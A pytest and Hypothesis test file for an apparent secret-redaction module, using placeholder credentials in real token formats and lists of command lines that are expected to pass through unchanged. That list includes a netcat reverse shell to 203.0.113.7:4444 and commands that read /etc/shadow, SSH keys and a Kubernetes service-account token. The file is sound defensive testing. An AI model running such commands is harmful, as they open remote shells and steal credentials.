"""Secrets leave, ordinary command lines stay as they are, and no text takes long."""

import time
from base64 import b64encode

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from signals.arguments import _SYNTAXES
from signals.redaction import MARK, redact, redact_named

SECRET = "kQ7zT4vW9xR2mN8pL5"
JWT = "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJzeXN0ZW06c2EifQ.c2lnbmF0dXJlc2lnbmF0dXJl"

LEAKS = {
    "a long flag and its value": ("vault --password kQ7zT4vW9xR2mN8pL5 read", SECRET),
    "a long flag with a sign": ("app --db-password=kQ7zT4vW9xR2mN8pL5 serve", SECRET),
    "a flag with one dash": ("java -password kQ7zT4vW9xR2mN8pL5 -jar x.jar", SECRET),
    "a variable": ("env PASSWORD=kQ7zT4vW9xR2mN8pL5 /app", SECRET),
    "a variable with a prefix": ("POSTGRES_PASSWORD=kQ7zT4vW9xR2mN8pL5", SECRET),
    "a short word": ("PASSWORD=hunter2 node app.js", "hunter2"),
    "an abbreviated variable": ("DB_PASS=kQ7zT4vW9xR2mN8pL5 x", SECRET),
    "mysql's environment": ("MYSQL_PWD=kQ7zT4vW9xR2mN8pL5 mysql", SECRET),
    "postgres' environment": ("PGPASSWORD=kQ7zT4vW9xR2mN8pL5 psql -h db", SECRET),
    "a quoted phrase": ('PASSPHRASE="correct horse battery" x', "horse"),
    "a phrase in single quotes": ("--passphrase 'correct horse battery'", "horse"),
    "a member of JSON": ('{"user":"a","password":"kQ7z T4vW"}', "T4vW"),
    "a member of escaped JSON": ('-d {\\"client_secret\\":\\"kQ7z T4vW\\"}', "T4vW"),
    "a line of YAML": ("password: kQ7zT4vW9xR2mN8pL5", SECRET),
    "a query": ("curl https://x/y?access_token=kQ7zT4vW9xR2mN8pL5&page=2", SECRET),
    "an encoded query": ("https://x/y?q=token%3DkQ7zT4vW9xR2mN8pL5", SECRET),
    "a connection string": ("Server=db;Uid=sa;Pwd=kQ7zT4vW9xR2mN8pL5;Database=x", SECRET),
    "an account key": ("AccountName=a;AccountKey=kQ7zT4vW9xR2mN8pL5==;", SECRET),
    "an AWS secret": ("aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCY", "wJalrXUtnFEMI"),
    "an AWS key id": ("aws configure set AKIAIOSFODNN7EXAMPLE", "AKIAIOSFODNN7EXAMPLE"),
    "a GCP key": ("--data AIzaSyA-1234567890_abcdefghijklmnopqrs", "AIzaSyA"),
    "a GCP access token": ("echo ya29.a0AfH6SMBx1234567890abcdef", "a0AfH6"),
    "a GitHub token": ("git clone https://ghp_16C7e42F292c6912E7710c838347Ae178B4a@github.com/x", "16C7e42F"),
    "a GitHub fine token": ("gh auth github_pat_11ABCDEFG0abcdefghijkl_mnop", "11ABCDEFG"),
    "a GitLab token": ("git -c x=glpat-abcdefghij0123456789", "abcdefghij0123456789"),
    "a Slack token": ("curl -F token-is xoxb-123456789012-abcdefGHIJKL", "abcdefGHIJKL"),
    "a Slack hook": ("curl https://hooks.slack.com/services/T000/B000/XXXXabcd", "XXXXabcd"),
    "a Stripe key": ("charge sk_live_4eC39HqLyjWDarjtT1zdp7dc", "4eC39HqLyj"),
    "an npm token": ("npm_abcdefghijklmnopqrstuvwxyz0123456789", "abcdefghijklmnop"),
    "a Vault token": ("x hvs.CAESIJ1234567890abcdef", "CAESIJ"),
    "a JWT": (f"kubectl get pods {JWT}", "c2lnbmF0dXJl"),
    "a JWT that was cut": ("x eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJzeX[...]", "eyJzdWIi"),
    "a bearer header": ("curl -H Authorization: Bearer kQ7zT4vW9xR2mN8pL5 https://x", SECRET),
    "a quoted bearer header": ("-H 'Authorization: Bearer kQ7zT4vW9xR2mN8pL5'", SECRET),
    "a basic header": ("-H Authorization: Basic YWRtaW46aHVudGVyMg==", "YWRtaW46"),
    "a header without a scheme": ("-H authorization:kQ7zT4vW9xR2mN8pL5", SECRET),
    "a bearer alone": ("grpcurl bearer kQ7zT4vW9xR2mN8pL5", SECRET),
    "a key header": ("-H X-Api-Key: kQ7zT4vW9xR2mN8pL5", SECRET),
    "a token header": ("-H 'PRIVATE-TOKEN: kQ7zT4vW9xR2mN8pL5'", SECRET),
    "a cookie": ("-H Cookie: sid=kQ7zT4vW9xR2mN8pL5; b=2", SECRET),
    "a URL's password": ("psql postgres://app:kQ7zT4vW9xR2mN8pL5@db:5432/x", SECRET),
    "a URL's token": ("git push https://kQ7zT4vW9xR2mN8pL5@host/x", SECRET),
    "a private key": (
        "echo -----BEGIN RSA PRIVATE KEY----- MIIEabc -----END RSA PRIVATE KEY----- x",
        "MIIEabc",
    ),
    "a private key that was cut": ("-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXk[...]", "b3Blb"),
    "base64 of a password": (
        f"echo {b64encode(b'PASSWORD=hunter2 and more').decode()} | base64 -d",
        "UEFTU1",
    ),
    "a literal of a Secret": ("kubectl create secret generic x --from-literal=a=kQ7zT4vW9xR2mN8pL5", SECRET),
    "a random key": ("svc --key AbC123dEf456GhI789jK", "AbC123"),
    "mysql": ("(user=root command=mysql -u root -pkQ7zT4vW9xR2mN8pL5 shop parent=sh)", SECRET),
    "mysql in a shell": ('sh -c "mysqldump -phunter2 shop"', "hunter2"),
    "curl": ("curl -s -u admin:kQ7zT4vW9xR2mN8pL5 http://x", SECRET),
    "curl attached": ("/usr/bin/curl -uadmin:hunter2 http://x", "hunter2"),
    "chpasswd": ("sh -c echo root:hunter2 | chpasswd", "hunter2"),
    "openssl's pass": ("openssl rsa -passin pass:hunter2 -in x", "hunter2"),
    "docker login": ("docker login -u a -p hunter2 reg.example", "hunter2"),
}

STAYS = (
    "bash",
    "nginx -g daemon off;",
    "node /usr/src/cicd/app.js",
    "sh -c cat /etc/passwd | grep root",
    "cat /etc/shadow",
    "grep -r password /etc",
    "grep -ri secret . --include=*.yaml",
    "find / -name id_rsa -o -name *.pem",
    "cat: /etc/passwd: Permission denied",
    "kubectl get secrets -n shop",
    "kubectl describe secret db-credentials",
    "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
    "vault --token-file /run/token --token-ttl=3600",
    "app --password-file=/run/secrets/db",
    "PASSWORD_FILE=/run/secrets/db SECRET_NAME=db env",
    "env PWD=/home/app OLDPWD=/ SHLVL=1",
    "docker run -p 8080:80 --name mysql mysql:8",
    "docker run -u 1000:1000 alpine",
    "ssh -p 2222 user@host",
    "curl -s http://10.0.0.1:8080/healthz?full=true",
    "git clone git@github.com:org/repo.git",
    "git clone ssh://git@github.com/org/repo",
    "nc -e /bin/sh 203.0.113.7 4444",
    "python3 -c import socket,subprocess,os",
    "mysql -u root -p shop",
    "mysqld --port=3306 --datadir=/var/lib/mysql",
    "TOKEN=$(cat /var/run/token) ./run",
    "PASSWORD=${DB_PASSWORD} ./run",
    "ansible-playbook --ask-pass -i hosts site.yml",
    "sort --key 2 file",
    "openssl x509 -in /etc/ssl/cert.pem -noout",
    "passwd root",
    "tokenize --input x",
    "java -Djavax.net.ssl.trustStore=/etc/keystore -jar app.jar",
    "kube-apiserver --authorization-mode=Node,RBAC --secure-port=6443",
    "sha256:3fb74555883c0a1b2c3d4e5f60718293a4b5c6d7e8f9012345678901234567890",
    "web-7d9f8b6c5-abcde",
    "6b742e38ab12cd34ef567890ab12cd34ef567890ab12cd34ef567890ab12cd34",
    "Notice A shell was spawned in a container (user=root user_loginuid=-1 terminal=34816 container_id=3fb745)",
    "10.0.1.5:44321->203.0.113.7:443",
    "ps aux; ls -la /tmp; id",
    "export PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
)


@pytest.mark.parametrize("case", LEAKS)
def test_a_secret_leaves(case: str) -> None:
    text, secret = LEAKS[case]
    assert secret in text
    assert secret not in redact(text)
    assert MARK.search(redact(text))


@pytest.mark.parametrize("text", STAYS)
def test_an_ordinary_text_stays(text: str) -> None:
    assert redact(text) == text


def test_what_stands_around_a_secret_stays() -> None:
    assert redact("mysql -u root -phunter2 shop") == "mysql -u root -p[redacted:argument] shop"
    assert redact('{"a":"b","password":"c","d":1}') == '{"a":"b","password":"[redacted:password]","d":1}'
    assert redact("postgres://app:x1@db/shop") == "postgres://app:[redacted:url-password]@db/shop"


@pytest.mark.parametrize("tool", sorted(tool for syntax in _SYNTAXES for tool in syntax.tools))
def test_every_tool_that_is_listed_is_met(tool: str) -> None:
    syntax = next(syntax for syntax in _SYNTAXES if tool in syntax.tools)
    value = f"user{syntax.behind}{SECRET}" if syntax.behind else SECRET
    for flag in syntax.attached:
        assert SECRET not in redact(f"/usr/bin/{tool} {syntax.command} {flag}{value} x")
    for flag in syntax.spaced:
        assert SECRET not in redact(f"(command={tool} {syntax.command} {flag} {value} x)")


def test_the_value_of_a_secret_variable_leaves_whatever_it_is() -> None:
    assert redact_named("proc.env[DB_PASSWORD]", "ordinary") == "[redacted:variable]"
    assert redact_named("proc.env[DB_PASSWORD]", 42) == "[redacted:variable]"
    assert redact_named("proc.env[HOME]", "/root") == "/root"
    assert redact_named("proc.pid", 42) == 42


WORDS = st.sampled_from(
    ["password", "--token", "=", ":", " ", '"', "'", "\\", "|", "chpasswd", "mysql", "-p", "curl", "-u", "://",
     "@", "Bearer ", "Authorization: ", "eyJabc.def", "AKIA", "[redacted:x]", "secret", "key", ";", "Cookie: ", "a",
     "Zz9", "-----BEGIN PRIVATE KEY-----", "ghp_", "0123456789abcdefABCDEF", "--from-literal", "login",
     "docker", "/", "%3D"]
)  # fmt: skip


@given(st.lists(WORDS, max_size=12).map("".join))
@example("://passwordpassword@")
def test_redacting_again_changes_nothing(text: str) -> None:
    once = redact(text)
    assert redact(once) == once


@given(st.text(max_size=300))
def test_any_text_is_taken(text: str) -> None:
    assert redact(redact(text)) == redact(text)


@given(
    st.text("abcdefghijkmnpqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789", min_size=6, max_size=40),
    st.sampled_from(
        ["--password={}", "--password {}", "X_TOKEN={}", '"secret": "{}"', "redis://u:{}@h", "mysql -p{}",
         "sh -c 'curl -u me:{} http://x'", "Authorization: Bearer {}", "PASSWORD='{}'", "?api_key={}&x=1"]
    ),
)  # fmt: skip
def test_no_planted_secret_is_found_again(secret: str, context: str) -> None:
    planted = "marker" + secret
    assert planted not in redact(f"run {context.format(planted)} now")


@pytest.mark.parametrize(
    "piece",
    ["password=", "token ", "/token:", "secret='", 'key="', "eyJ", "://", "://a:", "-----BEGIN PRIVATE KEY",
     "mysql -p", "curl -u ", "Bearer ", "Cookie: a;", "AKIA", "ghp_", "token=$(", "A1b2", "a", "\\",
     "--from-literal ", "authorization: ", "password =", "pass:", "dsn\"", "x.y-"],
)  # fmt: skip
def test_no_text_takes_long(piece: str) -> None:
    text = (piece * 65536)[:65536]
    started = time.process_time()
    redact(text)
    assert time.process_time() - started < 2.0
